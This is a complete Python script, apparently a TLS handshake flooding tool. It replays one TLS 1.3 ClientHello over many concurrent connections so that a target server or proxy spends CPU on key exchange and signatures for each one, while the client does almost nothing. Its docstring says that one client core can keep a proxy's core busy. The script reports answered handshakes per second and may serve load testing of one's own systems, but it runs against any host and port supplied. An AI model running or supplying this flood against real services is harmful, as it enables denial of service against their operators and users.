#!/usr/bin/env python3
"""hello_flood.py HOST PORT SECONDS CONCURRENCY: keeps CONCURRENCY TLS connections coming, each sending one
ClientHello (TLS 1.3, made once by Python's ssl module and sent again as is), reading the server's first bytes and
closing. The server computes its full key exchange and signature for each; the client only connects and writes,
so one client core can keep a proxy's core busy with handshakes. Prints the ClientHellos answered per second."""
import asyncio, ssl, sys, time

def client_hello():
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    ctx.minimum_version = ssl.TLSVersion.TLSv1_3
    out, inc = ssl.MemoryBIO(), ssl.MemoryBIO()
    obj = ctx.wrap_bio(inc, out, server_hostname="localhost")
    try:
        obj.do_handshake()
    except ssl.SSLWantReadError:
        pass
    return out.read()

HELLO = client_hello()

async def one(host, port, stop, counts):
    while time.monotonic() < stop:
        try:
            r, w = await asyncio.open_connection(host, port)
            w.write(HELLO)
            await r.read(1)
            counts[0] += 1
            w.transport.abort()
        except OSError:
            counts[1] += 1
            await asyncio.sleep(0.01)

async def main():
    host, port, secs, conc = sys.argv[1], int(sys.argv[2]), float(sys.argv[3]), int(sys.argv[4])
    counts = [0, 0]
    stop = time.monotonic() + secs
    await asyncio.gather(*(one(host, port, stop, counts) for _ in range(conc)))
    print(f"flood: {counts[0]} hellos answered ({counts[0]/secs:.0f}/s), {counts[1]} errors", file=sys.stderr)

asyncio.run(main())
